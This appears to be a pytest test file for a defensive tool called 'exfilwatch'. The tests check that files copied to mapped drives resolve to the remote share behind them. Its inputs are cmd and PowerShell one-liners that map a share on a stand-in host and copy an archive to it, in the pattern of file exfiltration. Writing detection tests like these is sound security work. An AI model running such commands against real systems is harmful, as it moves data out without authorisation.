"""Drives that a script attaches to a share of another host."""

import pytest

from exfilwatch.commands.command import Command, Undoing
from exfilwatch.commands.drives import mapped
from exfilwatch.commands.shells import cmd, powershell

SHARE = r"\\h.example\s"


@pytest.mark.parametrize(
    ("script", "last"),
    [
        (rf"net use Z: {SHARE} /user:u p & copy C:\a.zip Z:\in", ["copy", r"C:\a.zip", rf"{SHARE}\in"]),
        (rf"net use Z: {SHARE} & robocopy C:\a z: /E", ["robocopy", r"C:\a", SHARE, "/E"]),
        (rf"pushd {SHARE} && copy C:\a.zip .", ["copy", r"C:\a.zip", SHARE]),
        (rf"pushd {SHARE} && copy C:\a.zip .\in\a.zip", ["copy", r"C:\a.zip", rf"{SHARE}\in\a.zip"]),
        (r"net use Z: /delete & copy C:\a.zip Z:\in", ["copy", r"C:\a.zip", r"Z:\in"]),
        (r"subst Z: C:\x & copy C:\a.zip Z:\in", ["copy", r"C:\a.zip", r"Z:\in"]),
        (rf"net use Z: {SHARE} & copy C:\a.zip Y:\in", ["copy", r"C:\a.zip", r"Y:\in"]),
    ],
)
def test_what_is_copied_to_a_drive_of_cmd_goes_to_its_share(script: str, last: list[str]) -> None:
    assert list(mapped(cmd.commands(script, Undoing())))[-1].words == last


@pytest.mark.parametrize(
    "script",
    [
        rf"New-PSDrive -Name EX -PSProvider FileSystem -Root {SHARE}; Copy-Item C:\a.zip EX:\in",
        rf"New-SmbMapping -LocalPath X: -Remote {SHARE}; Copy-Item C:\a.zip x:\in",
        rf"net use Z: {SHARE}; Copy-Item C:\a.zip Z:\in",
        rf"(New-Object -ComObject WScript.Network).MapNetworkDrive('Z:', '{SHARE}'); Copy-Item C:\a.zip Z:\in",
        rf"Set-Location {SHARE}; Copy-Item C:\a.zip .\in",
    ],
)
def test_what_is_copied_to_a_drive_of_powershell_goes_to_its_share(script: str) -> None:
    assert list(mapped(powershell.commands(script, Undoing())))[-1].words[-1] == rf"{SHARE}\in"


def test_expressions_name_the_share_too() -> None:
    script = rf"net use Z: {SHARE}; [IO.File]::Copy('C:\a.zip', 'Z:\a.zip')"
    assert rf"'{SHARE}\a.zip'" in list(mapped(powershell.commands(script, Undoing())))[-1].raw


def test_a_path_that_only_begins_like_a_drive_stays() -> None:
    first = Command(["net", "use", "Z:", SHARE])
    assert list(mapped([first, Command(["x", "z:y", "zz:\\a"])]))[-1].words == ["x", "z:y", "zz:\\a"]
